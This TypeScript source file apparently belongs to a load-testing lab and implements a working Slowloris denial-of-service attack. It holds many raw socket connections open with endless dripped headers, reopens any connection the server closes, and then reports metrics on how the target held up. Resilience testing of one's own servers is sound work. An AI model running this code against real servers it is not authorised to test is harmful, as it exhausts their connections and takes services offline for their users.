import { connect, type Socket } from 'node:net';
import { median } from 'simple-statistics';
import type { AttackResult } from '../../contract/attack.js';
import type { Phase } from '../../contract/common.js';
import type { AttackSpec } from '../../scenario/types.js';
import { nowEpochMs } from '../clock.js';

/** Bytes a slow connection sends per interval: a few, as the attack is named for. */
const fragmentBytes = 4;
/** The header the endless header block repeats, 16 bytes: a server sees one more header every 4 intervals. */
const headerLine = 'X-Slow: aaaaaa\r\n';
/** How long start() waits for the connections to be made before the load begins anyway. */
const connectWaitMs = 3000;

interface SlowConnection {
  socket: Socket;
  openedAt: number;
  connectedAt: number | null;
  closedAt: number | null;
  /** The status code of what the server answered, if it answered before closing. */
  answer: string | null;
  /** Bytes of its endless header block sent so far. */
  sent: number;
  reset: boolean;
}

/** A held-count change: +1 when a connection is made, −1 when it closes. */
interface HeldChange {
  t: number;
  delta: 1 | -1;
}

/**
 * Slowloris on raw sockets: `connections` clients that each send a request line and then header
 * bytes a few at a time every interval, never the blank line that would end the headers, so the
 * server holds the connection (and what it allocated for it) waiting. A connection the server
 * closes is replaced an interval later, so the pressure stays. Everything it opens is destroyed
 * by stop(), whatever happened.
 */
export class Slowloris {
  private readonly all: SlowConnection[] = [];
  private readonly changes: HeldChange[] = [];
  private readonly host: string;
  private readonly port: number;
  private timer: NodeJS.Timeout | undefined;
  private stopped = false;
  private failed = 0;
  private startedAt = 0;
  private serial = 0;

  constructor(
    url: string,
    private readonly spec: AttackSpec,
  ) {
    const target = new URL(url);
    this.host = target.hostname.replace(/^\[|\]$/g, '');
    this.port = Number(target.port || 80);
  }

  /** Opens the slow connections and resolves once each is made or failed (or after a few seconds: a server that no longer accepts is part of the result). */
  async start(): Promise<void> {
    this.startedAt = nowEpochMs();
    const made = Array.from({ length: this.spec.connections }, () => this.open());
    this.timer = setInterval(() => this.tick(), this.spec.intervalMs);
    const deadline = new Promise((resolve) => setTimeout(resolve, connectWaitMs).unref());
    await Promise.race([Promise.all(made), deadline]);
  }

  /** Ends the attack: every socket destroyed, nothing reopened. Safe to call more than once. */
  close(): void {
    this.stopped = true;
    clearInterval(this.timer);
    for (const connection of this.all) connection.socket.destroy();
  }

  /** Ends the attack and sums it up against the measured phase. calm: the workload without it. */
  stop(measured: Phase, calm: AttackResult['calm']): AttackResult {
    const endedAt = nowEpochMs();
    this.close();
    const closed = this.all.filter((connection) => connection.closedAt !== null && connection.connectedAt !== null);
    const lifetimes = closed.map((connection) => (connection.closedAt ?? 0) - (connection.connectedAt ?? 0));
    const closedWith: Record<string, number> = {};
    for (const connection of closed) {
      const how = connection.reset ? 'reset' : (connection.answer ?? 'no answer');
      closedWith[how] = (closedWith[how] ?? 0) + 1;
    }
    return {
      kind: this.spec.kind,
      connections: this.spec.connections,
      intervalMs: this.spec.intervalMs,
      opened: this.all.length,
      failedToConnect: this.failed,
      held: this.heldOver(Date.parse(measured.startedAt), Date.parse(measured.endedAt)),
      closedByServer: closed.length,
      closedAfterMs: lifetimes.length > 0 ? { min: Math.min(...lifetimes), median: median(lifetimes), max: Math.max(...lifetimes) } : null,
      closedWith,
      durationMs: endedAt - this.startedAt,
      calm,
    };
  }

  /** One connection: the request line, then its endless headers a fragment per interval. Resolves once it is made or failed. */
  private open(): Promise<void> {
    const id = (this.serial += 1);
    const socket = connect({ host: this.host, port: this.port });
    socket.setNoDelay(true);
    const connection: SlowConnection = { socket, openedAt: nowEpochMs(), connectedAt: null, closedAt: null, answer: null, sent: 0, reset: false };
    this.all.push(connection);
    return new Promise((settled) => {
      socket.once('connect', () => {
        connection.connectedAt = nowEpochMs();
        this.changes.push({ t: connection.connectedAt, delta: 1 });
        socket.write(`GET /?slowloris=${id} HTTP/1.1\r\nHost: ${this.host}:${this.port}\r\nUser-Agent: loadlab-slowloris\r\n`);
        settled();
      });
      socket.on('data', (chunk: Buffer) => {
        connection.answer ??= /^HTTP\/1\.[01] (\d{3})/.exec(chunk.toString('latin1'))?.[1] ?? 'other';
      });
      socket.on('error', (error: NodeJS.ErrnoException) => {
        if (connection.connectedAt === null) this.failed += 1;
        else connection.reset = error.code === 'ECONNRESET' || error.code === 'EPIPE';
      });
      socket.once('close', () => {
        settled();
        if (this.stopped || connection.connectedAt === null) {
          if (!this.stopped) this.replaceLater();
          return;
        }
        connection.closedAt = nowEpochMs();
        this.changes.push({ t: connection.closedAt, delta: -1 });
        this.replaceLater();
      });
    });
  }

  /** A connection the server ended is replaced an interval later: soon enough to keep the pressure, not a tight loop. */
  private replaceLater(): void {
    setTimeout(() => {
      if (!this.stopped) void this.open();
    }, this.spec.intervalMs).unref();
  }

  /** Every open connection sends the next few bytes of its never-ending headers. */
  private tick(): void {
    for (const connection of this.all) {
      if (connection.connectedAt === null || connection.closedAt !== null || connection.socket.destroyed) continue;
      const offset = connection.sent % headerLine.length;
      connection.socket.write(headerLine.slice(offset, offset + fragmentBytes));
      connection.sent += fragmentBytes;
    }
  }

  /** Connections held at `from`, at `to`, and the fewest and most between them. */
  private heldOver(from: number, to: number): AttackResult['held'] {
    const changes = [...this.changes].sort((a, b) => a.t - b.t);
    let held = 0;
    let index = 0;
    for (; index < changes.length && (changes[index]?.t ?? Infinity) <= from; index += 1) held += changes[index]?.delta ?? 0;
    const atStart = held;
    let [min, max] = [held, held];
    for (; index < changes.length && (changes[index]?.t ?? Infinity) <= to; index += 1) {
      held += changes[index]?.delta ?? 0;
      min = Math.min(min, held);
      max = Math.max(max, held);
    }
    return { atStart, atEnd: held, min, max };
  }
}
